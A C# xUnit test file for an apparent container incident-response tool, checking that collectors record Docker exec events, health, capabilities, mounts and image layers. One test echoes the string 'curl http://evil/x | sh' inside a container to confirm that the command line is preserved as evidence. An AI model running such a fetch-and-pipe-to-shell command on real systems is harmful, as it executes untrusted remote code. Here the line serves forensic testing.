using System.Text;
using System.Text.Json;
using ContainerIR.Collectors;
using ContainerIR.Rows;
using ContainerIR.Runtimes;
using ContainerIR.Tests.Some;
using Xunit;

namespace ContainerIR.Tests.Collectors;

public sealed class Collected_events
{
    [Fact]
    public async Task Hold_the_command_lines_of_exec_sessions_and_what_became_of_them()
    {
        using TestContainer container = RealEngine.Start([], "sleep", "1000");
        container.Exec("echo 'curl http://evil/x | sh'; true");
        RealEngine.Docker("restart", "-t", "0", container.Id);
        using FolderSink sink = await Engine.Collect(container.Id, context => new EventsCollector(context));
        List<EventRow> rows = [.. Rows(sink).Where(row => row.OfContainer)];
        EventRow exec = rows.Single(row => row.Action == "exec_create");
        Assert.Equal("sh -c echo 'curl http://evil/x | sh'; true", exec.Detail);
        Assert.Equal(0, rows.Single(row => row.Action == "exec_die" && row.ExecId == exec.ExecId).ExitCode);
        Assert.Contains(rows, row => row.Action == "restart" && row.Class == "lifecycle");
        string raw = Encoding.UTF8.GetString(sink.Read("events.jsonl"));
        Assert.Contains("curl http://evil/x", raw.Substring((int)exec.Offset, (int)exec.Length), StringComparison.Ordinal);
        using JsonDocument summary = JsonDocument.Parse(sink.Read("events-summary.json"));
        Assert.True(summary.RootElement.GetProperty("events_of_container").GetInt32() >= 5);
    }

    [Fact]
    public async Task Hold_health_and_oom()
    {
        using TestContainer container = RealEngine.Start(["--health-cmd", "exit 1", "--health-interval", "1s", "--health-retries", "1"], "sleep", "1000");
        await RealEngine.Until(() => container.Inspect("{{.State.Health.Status}}") == "unhealthy", "unhealthy");
        using FolderSink sink = await Engine.Collect(container.Id, context => new EventsCollector(context));
        Assert.Contains(Rows(sink), row => row is { OfContainer: true, Class: "health", Detail: "unhealthy" });
    }

    [Fact]
    public async Task Hold_labels_of_a_megabyte_in_bounded_rows()
    {
        using TestContainer container = RealEngine.Start(["--label-file", LargeLabel()], "sleep", "1000");
        using FolderSink sink = await Engine.Collect(container.Id, context => new EventsCollector(context));
        Assert.True(sink.Items.Single(item => item.Path == "events.jsonl").RawBytes > 1024 * 1024);
        EventRow start = Rows(sink).Last(row => row is { OfContainer: true, Action: "start" });
        Assert.Equal(256, start.Attributes["large"].Length);
    }

    private static List<EventRow> Rows(FolderSink sink)
    {
        using FileStream rows = File.OpenRead(sink.PathOf("events-parsed.jsonl"));
        return [.. EventRow.Read(rows, line => Assert.Fail("a broken row at " + line.Offset))];
    }

    private static string LargeLabel()
    {
        // Lines of a label file end at 64 KiB, so the API is given the large one as JSON.
        string path = Path.GetTempFileName();
        File.WriteAllText(path, "large=" + new string('x', 60_000) + "\n" + string.Concat(Enumerable.Range(0, 18).Select(i => $"l{i}={new string('y', 60_000)}\n")));
        return path;
    }
}

public sealed class Collected_host_facts
{
    [Fact]
    public async Task Say_what_the_host_and_its_clocks_are()
    {
        using FolderSink sink = new();
        await new HostCollector().CollectAsync(AnyContainer, sink, CancellationToken.None);
        using JsonDocument json = JsonDocument.Parse(sink.Read("host.json"));
        JsonElement host = json.RootElement.GetProperty("host"), clock = json.RootElement.GetProperty("clock");
        Assert.Equal(RealEngine.Run("uname", "-r").Trim(), host.GetProperty("kernel_release").GetString());
        Assert.Equal(File.ReadAllText("/proc/sys/kernel/random/boot_id").Trim(), host.GetProperty("boot_id").GetString());
        Assert.NotEmpty(host.GetProperty("os_release").EnumerateObject());
        Assert.Contains(host.GetProperty("addresses").EnumerateArray(), address => address.GetProperty("address").GetString() == "127.0.0.1");
        long now = DateTimeOffset.UtcNow.ToUnixTimeMilliseconds();
        Assert.InRange(clock.GetProperty("realtime_ns").GetInt64() / 1_000_000, now - 10_000, now);
        Assert.InRange(clock.GetProperty("boottime_ns").GetInt64(), clock.GetProperty("monotonic_ns").GetInt64(), long.MaxValue);
        Assert.StartsWith("TIME_", clock.GetProperty("sync_state").GetString(), StringComparison.Ordinal);
    }

    private static ContainerRef AnyContainer => new()
    {
        RuntimeKind = "docker",
        Id = new string('a', 64),
        Name = "any",
        ImageName = "any",
        ImageId = "",
        State = ContainerState.Running,
        InitPid = 1,
        CreatedAt = DateTimeOffset.UnixEpoch,
    };
}

public sealed class Collected_configuration
{
    [Fact]
    public async Task Says_what_decides_over_its_freedom_as_asked_for_and_as_the_kernel_has_it()
    {
        using TestContainer container = RealEngine.Start(
            ["--cap-add", "NET_ADMIN", "--cap-drop", "MKNOD", "--security-opt", "no-new-privileges", "--pid", "host", "--restart", "on-failure:3", "-v", "/data", "--label", "com.docker.compose.project=shop",
                "--device", "/dev/null:/dev/x:r", "--health-cmd", "true"], "sleep", "1000");
        using FolderSink sink = await Engine.Collect(container.Id, context => new ConfigurationCollector(context));
        using JsonDocument facts = JsonDocument.Parse(sink.Read("facts.json"));
        JsonElement root = facts.RootElement, kernel = root.GetProperty("first_process");
        Assert.False(root.Flag("privileged"));
        Assert.Equal(("host", "on-failure", 3L), (root.Text("PidMode"), root.Text("restart_policy"), root.Number("restart_limit")));
        Assert.Equal(["compose"], root.Texts("orchestrators"));
        Assert.Equal("/dev/null as /dev/x r", Assert.Single(root.Texts("devices")));
        Assert.EndsWith("at /data rw", Assert.Single(root.Texts("mounts")), StringComparison.Ordinal);
        Assert.Contains("NET_ADMIN", kernel.Texts("capabilities_effective"));
        Assert.DoesNotContain("MKNOD", kernel.Texts("capabilities_bounding"));
        Assert.True(kernel.Flag("no_new_privileges"));
        Assert.Equal(File.ReadAllText($"/proc/{container.InitPid}/status").Contains("Seccomp:\t2", StringComparison.Ordinal) ? "filter" : "off", kernel.Text("seccomp"));
    }

    [Fact]
    public async Task Holds_the_engines_answer_its_files_and_the_runtimes()
    {
        using TestContainer container = RealEngine.Start(["--memory", "64m", "--cap-add", "SYS_PTRACE"], "sleep", "1000");
        using FolderSink sink = await Engine.Collect(container.Id, context => new ConfigurationCollector(context));
        Assert.Empty(sink.Gaps);
        Assert.Equal(container.Id, Json(sink, "inspect.json").GetProperty("Id").GetString());
        Assert.Equal(container.Id, Json(sink, "engine/config.v2.json").GetProperty("ID").GetString());
        Assert.Contains("CAP_SYS_PTRACE", Json(sink, "runtime/config.json").GetProperty("process").GetProperty("capabilities").GetProperty("bounding").EnumerateArray().Select(one => one.GetString()));
        Assert.Equal(container.InitPid, Json(sink, "runtime/state.json").GetProperty("init_process_pid").GetInt32());
        Assert.Equal("bridge", Json(sink, "networks/0001.json").GetProperty("Name").GetString());
        Assert.True(Json(sink, "version.json").TryGetProperty("ApiVersion", out _));
        Assert.True(Json(sink, "info.json").TryGetProperty("DockerRootDir", out _));
        Assert.Contains(Json(sink, "resources.json").GetProperty("files").EnumerateObject(), file => file.Name.EndsWith("memory.limit_in_bytes", StringComparison.Ordinal) || file.Name.EndsWith("memory.max", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Holds_the_name_files_of_the_container_whose_network_it_shares()
    {
        using TestContainer host = RealEngine.Start(["--add-host", "shared.example:192.0.2.7"], "sleep", "1000");
        using TestContainer guest = RealEngine.Start(["--network", "container:" + host.Id], "sleep", "1000");
        using FolderSink sink = await Engine.Collect(guest.Id, context => new ConfigurationCollector(context));
        Assert.Empty(sink.Gaps);
        Assert.Equal(guest.Id, Json(sink, "engine/config.v2.json").GetProperty("ID").GetString());
        Assert.Contains("shared.example", Encoding.UTF8.GetString(sink.Read("engine/hosts")), StringComparison.Ordinal);
        Assert.NotEmpty(sink.Read("engine/resolv.conf"));
    }

    [Fact]
    public async Task Says_of_a_container_that_never_started_that_it_never_did()
    {
        string id = RealEngine.Docker("create", RealEngine.Image, "true").Trim();
        try
        {
            using FolderSink sink = await Engine.Collect(id, context => new ConfigurationCollector(context));
            Assert.Equal(4, sink.Gaps.Count);
            Assert.All(sink.Gaps, gap => Assert.Contains("never started", gap.Reason, StringComparison.Ordinal));
        }
        finally
        {
            RealEngine.Docker("rm", id);
        }
    }

    [Fact]
    public async Task Says_what_an_ended_container_has_no_more()
    {
        using TestContainer container = RealEngine.Start([], "true");
        await RealEngine.Until(() => container.Inspect("{{.State.Running}}") == "false", "the end of true");
        using FolderSink sink = await Engine.Collect(container.Id, context => new ConfigurationCollector(context));
        Assert.Contains(sink.Gaps, gap => gap.Sought.Contains("runtime specification", StringComparison.Ordinal));
        Assert.Contains(sink.Items, item => item.Path == "inspect.json");
    }

    private static JsonElement Json(FolderSink sink, string name)
    {
        using JsonDocument document = JsonDocument.Parse(sink.Read(name));
        return document.RootElement.Clone();
    }
}

public sealed class Collected_image
{
    [Fact]
    public async Task Holds_the_engines_documents_and_the_layers()
    {
        using TestContainer container = RealEngine.Start([], "sleep", "1000");
        using FolderSink sink = await Engine.Collect(container.Id, context => new ImageCollector(context));
        Assert.Empty(sink.Gaps);
        using JsonDocument image = JsonDocument.Parse(sink.Read("image.json"));
        Assert.Equal(container.Inspect("{{.Image}}"), image.RootElement.GetProperty("id").GetString());
        Assert.StartsWith("sha256:", Assert.Single(image.RootElement.GetProperty("layer_diff_ids").EnumerateArray()).GetString(), StringComparison.Ordinal);
        Assert.True(image.RootElement.GetProperty("name_still_points_here").GetBoolean());
        using JsonDocument history = JsonDocument.Parse(sink.Read("image-history.json"));
        Assert.Equal(JsonValueKind.Array, history.RootElement.ValueKind);
    }
}
